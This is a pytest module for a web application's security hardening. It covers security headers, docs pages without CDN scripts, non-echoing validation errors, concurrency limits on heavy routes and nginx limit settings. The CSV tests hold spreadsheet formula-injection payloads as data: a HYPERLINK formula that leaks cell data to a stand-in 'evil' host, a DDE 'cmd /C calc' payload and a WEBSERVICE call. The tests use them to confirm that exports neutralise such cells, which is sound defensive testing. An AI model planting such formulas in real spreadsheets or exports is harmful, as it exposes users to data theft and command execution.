"""Browser and export hardening, and the heavy routes' limit: security headers on every answer,
no CDN script behind /docs, CSV cells that cannot run as formulas, 422s that do not echo the
input, the CPU-heavy anonymous routes refused (429/503 + Retry-After) when saturated, and
nginx's limits in step with the app's settings. No assertion depends on timing: concurrency
is held by events the test sets."""

from __future__ import annotations

import csv
import io
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from downloads_fixtures import CITY, Downloads, downloads  # noqa: F401
from fastapi import FastAPI
from fastapi.testclient import TestClient

from mcae.platform.app import create_app
from mcae.platform.busy import FILES, HEAVY, HeavyRouteLimit
from mcae.platform.headers import SecurityHeaders
from mcae.platform.settings import DownloadSettings, HeavySettings, JobSettings, Settings
from mcae.tiles.csv_safe import safe_csv_text
from mcae.tiles.settings import TileSettings
from mcae.tiles.statistics import statistics_csv

REPO = Path(__file__).resolve().parents[1]
HEADERS = {"x-content-type-options": "nosniff", "x-frame-options": "DENY", "referrer-policy": "no-referrer"}


@pytest.fixture
def client(downloads: Downloads, tmp_path: Path) -> Iterator[TestClient]:  # noqa: F811
    web = tmp_path / "web"
    (web / "assets").mkdir(parents=True)
    (web / "index.html").write_text("<!doctype html><title>x</title>")
    (web / "assets" / "a.js").write_text("console.log(1)")
    settings = Settings(tiles=TileSettings(catalog_path=downloads.catalog, web_dist=web),
                        jobs=JobSettings(dir=tmp_path / "jobs"))
    with TestClient(create_app(settings)) as running:
        yield running


def assert_secure(response: httpx.Response) -> None:
    for name, value in HEADERS.items():
        assert response.headers.get(name) == value, (response.request.url, name, response.headers)
    csp = response.headers["content-security-policy"]
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "img-src 'self' data:" in csp
    script = re.search(r"script-src ([^;]*)", csp)
    assert script is not None and "unsafe-inline" not in script.group(1) and "http" not in csp


def test_every_kind_of_answer_carries_the_security_headers(client: TestClient) -> None:
    layer = f"/api/cities/{CITY}/layers/mcae"
    answers = [client.get("/"), client.get("/assets/a.js"), client.get("/api/cities"),
               client.get(f"{layer}/tiles/WebMercatorQuad/17/0/0.png"),  # outside: a 404 error
               client.get("/api/cities/nowhere"), client.get(f"{layer}/statistics?bbox=1,2"),  # 400
               client.post(f"{layer}/bundles", json={"minzoom": "x"}),  # 422
               client.get("/openapi.json"), client.get("/api/jobs/" + "a" * 24), client.get("/healthz")]
    assert {a.status_code for a in answers} >= {200, 404, 400, 422}
    for answer in answers:
        assert_secure(answer)


def test_an_unexpected_error_answers_json_with_the_security_headers(downloads: Downloads,  # noqa: F811
                                                                     tmp_path: Path) -> None:
    """Starlette's outermost error middleware answers an unexpected exception: the headers too."""
    settings = Settings(tiles=TileSettings(catalog_path=downloads.catalog), jobs=JobSettings(dir=tmp_path / "jobs"))
    app = create_app(settings)

    @app.get("/api/broken")
    def broken() -> None:
        raise RuntimeError("/secret/server/path")

    app.router.routes.insert(0, app.router.routes.pop())  # before the app's catch-all for unknown /api paths
    with TestClient(app, raise_server_exceptions=False) as running:
        answer = running.get("/api/broken")
    assert answer.status_code == 500
    assert "/secret" not in answer.text and answer.headers["content-type"].startswith("application/json")
    assert_secure(answer)


def test_docs_never_load_a_cdn_script(client: TestClient, downloads: Downloads, tmp_path: Path) -> None:  # noqa: F811
    assert client.get("/docs").status_code == 404 and client.get("/redoc").status_code == 404  # off by default
    assets = tmp_path / "swagger"
    assets.mkdir()
    (assets / "swagger-ui-bundle.js").write_text("window.SwaggerUIBundle = function () {};")
    (assets / "swagger-ui.css").write_text("body {}")
    settings = Settings(tiles=TileSettings(catalog_path=downloads.catalog), jobs=JobSettings(dir=tmp_path / "j"),
                        docs_assets=assets)
    with TestClient(create_app(settings)) as on:
        page = on.get("/docs")
        assert page.status_code == 200
        sources = re.findall(r'(?:src|href)="([^"]+)"', page.text)
        assert sources and all(s.startswith("/docs/") for s in sources), sources
        assert not re.search(r"<script>(?!</script>)", page.text)  # no inline script
        assert on.get(sources[-1]).status_code == 200 and on.get("/docs/assets/swagger-ui-bundle.js").status_code == 200
        assert_secure(page)


def test_csv_cells_cannot_be_formulas() -> None:
    document = {"classes": [{"id": 1, "name": '=HYPERLINK("http://evil/?"&A1,"x")', "color": "@SUM(1)",
                             "pixels": -3, "area_m2": -0.5, "percent": 1.5},
                            {"id": 2, "name": "+cmd|' /C calc'!A0", "color": "-2+3", "pixels": 1,
                             "area_m2": 1.0, "percent": -1.5}]}
    rows = list(csv.DictReader(io.StringIO(statistics_csv(document))))
    assert rows[0]["name"].startswith("'=") and rows[0]["color"] == "'@SUM(1)"
    assert rows[1]["name"].startswith("'+") and rows[1]["color"] == "'-2+3"
    assert rows[0]["pixels"] == "-3" and rows[0]["area_m2"] == "-0.5" and rows[1]["percent"] == "-1.5"  # numbers stay
    served = safe_csv_text('scope,name\ncity,"=1+2"\n@x,\t-y\n-1,ok\n')
    assert served == "scope,name\ncity,'=1+2\n'@x,'\t-y\n-1,ok\n"


def test_compare_csv_is_neutralised_when_served(tmp_path: Path) -> None:
    from analysis_data import client as compare_client
    from test_compare import pair

    from mcae.tiles.compare_report import run_comparison

    store = pair(tmp_path)
    _, files = run_comparison(store, "testville")
    table = next(p for name, p in files.items() if name == "harmonised.csv")
    table.write_text(table.read_text() + 'city,"=WEBSERVICE(""http://x"")",1,2,3\n')  # a hostile name
    text = compare_client(store).get("/api/cities/testville/compare",
                                     params={"format": "csv", "table": "harmonised"}).text
    assert "'=WEBSERVICE" in text and not re.search(r"(^|,)=", text, re.M)


def test_422_does_not_echo_the_input(client: TestClient) -> None:
    secret = "mcae_0123456789ab_" + "S" * 200
    big = {"format": "zip", "bbox": [secret, 2, 3, 4], "minzoom": {"deep": ["x" * 5000]}, "maxzoom": 3,
           "district": "\u0000" + "y" * 300}
    answer = client.post(f"/api/cities/{CITY}/layers/mcae/bundles", json=big)
    assert answer.status_code == 422
    assert secret not in answer.text and "x" * 100 not in answer.text and "y" * 100 not in answer.text
    assert "\\u0000" not in answer.text and len(answer.text) < 2000
    details = answer.json()["detail"]
    assert {tuple(d["loc"][:2]) for d in details} >= {("body", "bbox"), ("body", "minzoom")}
    assert all(len(d.get("input", "")) <= 43 and d["msg"] for d in details)


def test_the_heavy_routes_are_the_ones_named(client: TestClient) -> None:
    paths = set(client.get("/openapi.json").json()["paths"])
    heavy = {p for p in paths if HEAVY.match(re.sub(r"\{[^}]+\}", "x", p))}
    assert heavy == {"/api/cities/{city}/layers/{layer}/clip", "/api/cities/{city}/layers/{layer}/statistics",
                     "/api/cities/{city}/layers/{layer}/bundles/estimate", "/api/cities/{city}/compare.png",
                     "/api/stac/catalog.json", "/api/stac/{city}/collection.json",
                     "/api/stac/{city}/{item}/{item_file}"}
    assert not HEAVY.match("/api/cities/x/layers/y/tiles/WebMercatorQuad/1/2/3.png")
    files = {p for p in paths if FILES.match(re.sub(r"\{[^}]+\}", "x", p))}
    assert files == {"/api/cities/{city}/layers/{layer}/files/{version}/{name}"}  # not the listings


def test_saturated_heavy_routes_answer_429_and_503_with_retry_after() -> None:
    entered, gate = threading.Semaphore(0), threading.Event()
    app = FastAPI()

    @app.get("/api/stac/catalog.json")
    def slow() -> dict[str, Any]:
        entered.release()
        assert gate.wait(30)
        return {"ok": True}

    @app.get("/api/cities")
    def cheap() -> dict[str, Any]:
        return {"ok": True}

    limited = SecurityHeaders(HeavyRouteLimit(app, concurrency=3, per_client=2))
    clients = {ip: TestClient(limited, client=(ip, 1)) for ip in ("10.0.0.1", "10.0.0.2", "10.0.0.3")}
    results: list[int] = []

    def ask(ip: str) -> None:
        results.append(clients[ip].get("/api/stac/catalog.json").status_code)

    threads = [threading.Thread(target=ask, args=(ip,)) for ip in ("10.0.0.1", "10.0.0.1", "10.0.0.2")]
    for thread in threads:
        thread.start()
    try:
        for _ in threads:
            assert entered.acquire(timeout=30)  # three heavy requests are running
        same = clients["10.0.0.1"].get("/api/stac/catalog.json")
        assert same.status_code == 429 and same.headers["retry-after"] == "1" and "per_client" in same.json()["detail"]
        other = clients["10.0.0.3"].get("/api/stac/catalog.json")
        assert other.status_code == 503 and other.headers["retry-after"] == "1"
        assert_secure(other)
        assert clients["10.0.0.3"].get("/api/cities").status_code == 200  # light routes are not held
    finally:
        gate.set()
        for thread in threads:
            thread.join(30)
    assert results == [200, 200, 200]
    assert clients["10.0.0.3"].get("/api/stac/catalog.json").status_code == 200  # free again


def test_nginx_limits_agree_with_the_settings() -> None:
    conf = (REPO / "docker" / "nginx.conf").read_text()
    heavy = HeavySettings()
    location = re.search(r"location ~ (\S+) \{\s*limit_conn mcae_heavy_client (\d+);"
                         r"\s*limit_conn mcae_heavy_all (\d+);", conf)
    assert location is not None
    assert location.group(1) == HEAVY.pattern
    assert int(location.group(2)) == heavy.per_client
    assert int(location.group(3)) == heavy.concurrency * 2  # two app processes behind it (compose)
    files = re.search(r"location ~ (\S+) \{\s*limit_conn mcae_files_client (\d+);"
                      r"\s*limit_conn mcae_files_all (\d+);", conf)
    limits = DownloadSettings()
    assert files is not None and files.group(1) == FILES.pattern
    assert int(files.group(2)) == limits.per_client and int(files.group(3)) == limits.concurrency * 2
    assert "limit_req zone=mcae_bundles" in conf and "limit_req_status 429" in conf and "Retry-After" in conf


def test_whole_file_downloads_have_their_own_bounded_concurrency(client: TestClient) -> None:
    """Anonymous visitors may download whole maps, but as many at once as ``downloads`` allows."""
    limits = [m.kwargs for m in client.app.user_middleware if m.cls is HeavyRouteLimit]  # type: ignore[attr-defined]
    files = [k for k in limits if k.get("pattern") is FILES]
    settings = Settings().downloads
    assert len(files) == 1 and files[0]["per_client"] == settings.per_client
    assert files[0]["concurrency"] == settings.concurrency
